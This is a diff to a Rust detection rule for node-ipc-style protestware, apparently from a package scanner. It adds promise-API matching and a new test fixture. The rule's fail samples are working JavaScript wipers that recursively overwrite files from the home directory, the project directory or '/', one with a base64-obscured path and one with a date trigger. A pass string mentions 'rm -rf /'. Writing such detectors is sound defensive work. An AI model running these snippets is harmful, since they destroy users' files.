@@ -23,6 +23,7 @@ crate::declare_rule! {
            "const a = require('fs'); function h(d){ for (const e of a.readdirSync(d)) { const p = d + '/' + e; if (a.lstatSync(p).isDirectory()) h(p); else a.writeFile(p, 'x', () => {}) } } h(Buffer.from('Li4vLi4v', 'base64').toString()); h(Buffer.from('Lw==', 'base64').toString())",
            "const T = new Date('2025-06-01').getTime(); function sweep(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) sweep(p); else fs.writeFileSync(p, '') } } if (Date.now() > T) sweep(path.join(process.cwd(), 'src'))",
            "function walk(d){ for (const e of fs.readdirSync(d)) { const p = d + '/' + e; if (fs.statSync(p).isDirectory()) walk(p); else fs.writeFileSync(p, '\\u2764') } } ['./', '../', '../../', '/'].forEach(walk)",
+           "const { readdir, writeFile } = require('fs/promises'); const MSG = 'Peace.'; async function w(d) { for (const e of await readdir(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) await w(p); else await writeFile(p, MSG) } } w(os.homedir())",
            "const NOTE = 'No war.'; const w = (d) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) w(p); else if (/\\.(js|json)$/.test(e.name)) fs.writeFileSync(p, NOTE) } }; w(process.env.INIT_CWD || process.cwd())"],
     pass: ["const walk = d => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else out.push(p); } }; walk(src); fs.writeFileSync(path.join(dist, 'files.json'), JSON.stringify(out))",
            "fs.rmSync(path.join(tmp, 'build'), { recursive: true })",
@@ -32,6 +33,14 @@ crate::declare_rule! {
            // vite 5.2.10: lists directories in one function, writes a fixed package.json into
            // its cache in another, and names '..' elsewhere; no walk overwrites anything
            "function scan(dir) { for (const e of fs.readdirSync(dir, { withFileTypes: true })) { if (e.isDirectory()) scan(path.join(dir, e.name)); else found.push(e.name); } }\nconst up = path.resolve(root, '..');\n/* ................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................ */\nfunction prepare(cacheDir) { fs.mkdirSync(cacheDir, { recursive: true }); fs.writeFileSync(path.resolve(cacheDir, 'package.json'), `{\\n  \"type\": \"module\"\\n}\\n`); }", "// never run rm -rf / on a machine"],
+}
+
+/// Whether a call is `fs.<name>…` of node's fs module, callback or promise API (`fs.promises.`,
+/// `fs/promises.`).
+fn fs_call(path: &str, name: &str) -> bool {
+    ["fs.", "fs.promises.", "fs/promises."]
+        .iter()
+        .any(|p| path.strip_prefix(p).is_some_and(|r| r.starts_with(name)))
 }
 
 /// How far (in bytes) after a directory listing an overwrite still counts as part of the walk
@@ -141,7 +150,7 @@ fn check(pkg: &Package, out: &mut Emitter) {
         let listings: Vec<u32> = js
             .calls
             .iter()
-            .filter(|c| c.path.starts_with("fs.readdir"))
+            .filter(|c| fs_call(&c.path, "readdir"))
             .map(|c| c.off)
             .collect();
         let in_walk = |off: u32| {
@@ -153,7 +162,7 @@ fn check(pkg: &Package, out: &mut Emitter) {
         let writes = js
             .calls
             .iter()
-            .find(|c| c.path.starts_with("fs.writeFile") && in_walk(c.off));
+            .find(|c| fs_call(&c.path, "writeFile") && in_walk(c.off));
         // Each finding below needs `writes` or `overwrites` (a write inside a walk, which
         // `overwrites` narrows): without one, skip the searches of the text that follow.
         if writes.is_none() {
@@ -168,7 +177,7 @@ fn check(pkg: &Package, out: &mut Emitter) {
         // A recursive walk from above the project that overwrites what it finds with constant
         // content (node-ipc 10.1.1 and its locale-keyed imitators).
         let overwrites = js.calls.iter().find(|c| {
-            c.path.starts_with("fs.writeFile")
+            fs_call(&c.path, "writeFile")
                 && c.arg_lit(1).is_some()
                 && c.arg_lit(0).is_none()
                 && in_walk(c.off)
@@ -177,7 +186,7 @@ fn check(pkg: &Package, out: &mut Emitter) {
         let recursive = js
             .calls
             .iter()
-            .filter(|c| c.path.starts_with("fs.readdir"))
+            .filter(|c| fs_call(&c.path, "readdir"))
             .count()
             >= 1
             && (text.contains("isDirectory") || text.contains("withFileTypes"));
@@ -214,7 +223,7 @@ fn check(pkg: &Package, out: &mut Emitter) {
         let project = text.contains("INIT_CWD")
             || text.contains("process.cwd()")
             || js.calls.iter().any(|c| c.path == "os.homedir");
-        let reads = js.calls.iter().any(|c| c.path.starts_with("fs.readFile"));
+        let reads = js.calls.iter().any(|c| fs_call(&c.path, "readFile"));
         let fixed_text = overwrites.filter(|c| c.arg_lit(1).is_some_and(|l| !l.trim().is_empty()));
         if let (true, true, false, Some(w)) = (walks && recursive, project, reads, fixed_text) {
             out.hit(
